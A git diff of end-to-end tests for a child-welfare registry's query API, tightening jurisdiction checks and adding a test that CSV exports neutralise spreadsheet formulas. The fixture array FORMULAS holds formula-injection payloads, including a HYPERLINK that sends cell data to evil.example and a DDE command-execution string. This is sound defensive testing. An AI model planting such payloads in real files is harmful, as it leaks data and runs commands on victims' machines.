@@ -1,4 +1,5 @@
 import type { INestApplication } from '@nestjs/common';
+import { parse } from 'csv-parse/sync';
 import { Pool } from 'pg';
 import { loadAdministrativeUnits } from '@childledger/admin-units';
 import { createPool, createTestDatabase, TestDatabase } from '@childledger/database';
@@ -8,6 +9,10 @@ import { createTestAuth, TestAuth } from '@childledger/platform/testing';
 import { PROJECTIONS, ProjectionRunner, UnitResolver } from '@childledger/read-models';
 import { FIXTURE_IDS, LedgerFixture, writeIndicatorFixture } from '@childledger/read-models/testing';
 import { createQueryApi } from '../src/query-api.app';
+
+const CSV_CHILD = 'fx-csv';
+/** Reasons that begin with each character a spreadsheet takes for a formula. */
+const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"xem")', '+1+cmd|\' /C calc\'!A0', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1'];
 
 describe('query API (e2e)', () => {
   let db: TestDatabase;
@@ -33,6 +38,12 @@ describe('query API (e2e)', () => {
     store = createPostgresEventStore({ pool });
     const fx = new LedgerFixture(store, loadAdministrativeUnits());
     await writeIndicatorFixture(fx);
+    // A child whose corrections carry reasons a spreadsheet would run as formulas (the CSV export test).
+    const now = new Date().toISOString();
+    await fx.child(CSV_CHILD, 'RegisterChild', { childId: CSV_CHILD, fullName: 'Phạm Văn Sổ', dateOfBirth: '2016-02-02', sex: 'M', residence: { communeCode: '00004', effectiveFrom: '2026-01-05' } }, { at: now });
+    for (const [i, reason] of FORMULAS.entries()) {
+      await fx.child(CSV_CHILD, 'CorrectChildDetails', { changes: { notes: `ghi chú ${i}` }, reason }, { at: now, reason });
+    }
     await fx.backdate(owner);
     const runner = new ProjectionRunner({ store, pool, projections: PROJECTIONS, units: new UnitResolver(loadAdministrativeUnits()) });
     await runner.start();
@@ -80,16 +91,29 @@ describe('query API (e2e)', () => {
       ]);
     });
 
-    it('refuses the wrong jurisdiction (403) and unknown children (404)', async () => {
-      expect((await get(`/children/${FIXTURE_IDS.A}?purpose=inspection`, 'hcmInspector')).status).toBe(403);
-      expect((await get(`/children/${FIXTURE_IDS.A}?purpose=case_work`, 'officer')).status).toBe(403); // lives in 00008, officer works in 00004
+    it('answers a child outside the jurisdiction exactly like an unknown one (404, same body, no unit named), and audits neither', async () => {
+      const before = Number((await owner.query('SELECT count(*) FROM read_audit')).rows[0].count);
+      const outside = await get(`/children/${FIXTURE_IDS.A}?purpose=case_work`, 'officer'); // lives in 00008, officer works in 00004
+      const unknown = await get(`/children/nobody?purpose=case_work`, 'officer');
+      expect([outside.status, unknown.status]).toEqual([404, 404]);
+      const [outsideText, unknownText] = [await outside.text(), await unknown.text()];
+      expect(outsideText.replaceAll(FIXTURE_IDS.A, '<id>')).toBe(unknownText.replaceAll('nobody', '<id>'));
+      expect(outsideText).not.toMatch(/000\d\d|commune|jurisdiction/);
+      expect((await get(`/children/${FIXTURE_IDS.A}?purpose=inspection`, 'hcmInspector')).status).toBe(404);
+      expect((await get(`/children/${FIXTURE_IDS.E}/as-of?date=2025-01-01&purpose=inspection`, 'hcmInspector')).status).toBe(404);
+      expect(Number((await owner.query('SELECT count(*) FROM read_audit')).rows[0].count)).toBe(before);
       expect((await get(`/children/${FIXTURE_IDS.A}?purpose=case_work`, 'ngocHaOfficer')).status).toBe(200);
-      expect((await get(`/children/nobody?purpose=inspection`, 'inspector')).status).toBe(404);
     });
 
-    it('lets only inspectors and admins ask who viewed a child (403 for other roles)', async () => {
+    it('names the unit a caller asked about, never one of a record', async () => {
+      const res = await get('/cases?unit=79', 'caseWorker');
+      expect(res.status).toBe(403);
+      expect((await res.json()).message).toBe('unit 79 is outside your jurisdiction');
+    });
+
+    it('lets only inspectors and admins ask who viewed a child (403 for other roles; 404 outside the jurisdiction)', async () => {
       expect((await get(`/children/${FIXTURE_IDS.A}/views`, 'caseWorker')).status).toBe(403);
-      expect((await get(`/children/${FIXTURE_IDS.A}/views`, 'hcmInspector')).status).toBe(403);
+      expect((await get(`/children/${FIXTURE_IDS.A}/views`, 'hcmInspector')).status).toBe(404);
     });
 
     it('masks an erased child\'s personal data', async () => {
@@ -104,7 +128,7 @@ describe('query API (e2e)', () => {
       expect(rec).toMatchObject({ time: 'recorded', record: { circumstances: [3], residence: { communeCode: '00004' } } });
       expect((await get(`/children/${FIXTURE_IDS.E}/as-of?date=2023-01-01&purpose=inspection`, 'inspector')).status).toBe(404);
       expect((await get(`/children/${FIXTURE_IDS.E}/as-of?date=2025-01-01&time=later&purpose=inspection`, 'inspector')).status).toBe(400);
-      expect((await get(`/children/${FIXTURE_IDS.E}/as-of?date=2025-01-01&purpose=inspection`, 'hcmInspector')).status).toBe(403);
+      expect((await get(`/children/${FIXTURE_IDS.E}/as-of?date=2025-01-01&purpose=inspection`, 'hcmInspector')).status).toBe(404);
       const views = await (await get(`/children/${FIXTURE_IDS.E}/views`, 'admin')).json();
       expect(views.views.map((v: { view: string }) => v.view)).toEqual(['as_of_effective:2025-01-01', 'as_of_recorded:2025-01-01', 'as_of_effective:2023-01-01']);
     });
@@ -114,8 +138,15 @@ describe('query API (e2e)', () => {
     it('reads a case with a purpose, checks role and jurisdiction, lists cases of a unit without personal data', async () => {
       expect((await get('/cases/fx-case-c', 'caseWorker')).status).toBe(400);
       expect(await (await get('/cases/fx-case-c?purpose=case_work', 'caseWorker')).json()).toMatchObject({ status: 'implementing', assessedOnTime: false, personal: { description: 'gọi 111' } });
-      expect((await get('/cases/fx-case-c?purpose=case_work', 'officer')).status).toBe(403);
-      expect((await get('/cases/fx-case-c?purpose=inspection', 'hcmInspector')).status).toBe(403);
+      // One role table (the platform's CASE_CONTENT_ROLES, as on the registry API): a data officer does not see case content.
+      const officer = await get('/cases/fx-case-c?purpose=case_work', 'officer');
+      expect(officer.status).toBe(403);
+      expect(JSON.stringify(await officer.json())).not.toContain('gọi 111');
+      // A case whose child lives outside the jurisdiction: the same 404 as an unknown case.
+      const outside = await get('/cases/fx-case-c?purpose=inspection', 'hcmInspector');
+      const unknown = await get('/cases/no-such-case?purpose=inspection', 'hcmInspector');
+      expect([outside.status, unknown.status]).toEqual([404, 404]);
+      expect((await outside.text()).replaceAll('fx-case-c', '<id>')).toBe((await unknown.text()).replaceAll('no-such-case', '<id>'));
       const list = await (await get('/cases?unit=01', 'caseWorker')).json();
       expect(list.cases.map((c: { caseId: string }) => c.caseId).sort()).toEqual(['fx-case-a', 'fx-case-c', 'fx-case-d']);
       expect(JSON.stringify(list)).not.toContain('gọi 111');
@@ -155,6 +186,17 @@ describe('query API (e2e)', () => {
       expect(in2024.items).toHaveLength(6);
       const unit = await (await get('/audit/events?unit=00025&limit=500', 'inspector')).json();
       expect(new Set(unit.items.map((i: { childId: string }) => i.childId))).toEqual(new Set([FIXTURE_IDS.E]));
+    });
+
+    it('exports a reason beginning with a formula character as text: =, +, -, @, tab and carriage return each get a leading quote', async () => {
+      const csv = await get(`/audit/events.csv?childId=${CSV_CHILD}`, 'inspector');
+      expect(csv.status).toBe(200);
+      const rows = parse(await csv.text(), { columns: true, relax_quotes: true }) as { event_type: string; reason: string }[];
+      const reasons = rows.filter((r) => r.event_type === 'ChildDetailsCorrected').map((r) => r.reason);
+      expect(reasons).toEqual(FORMULAS.map((f) => `'${f}`));
+      // The JSON trail keeps the reason as it was written.
+      const json = await (await get(`/audit/events?childId=${CSV_CHILD}`, 'inspector')).json();
+      expect(json.items.filter((i: { eventType: string }) => i.eventType === 'ChildDetailsCorrected').map((i: { reason: string }) => i.reason)).toEqual(FORMULAS);
     });
 
     it('exports CSV, refuses other roles (403), shows nothing outside the jurisdiction, and rejects bad filters (400)', async () => {
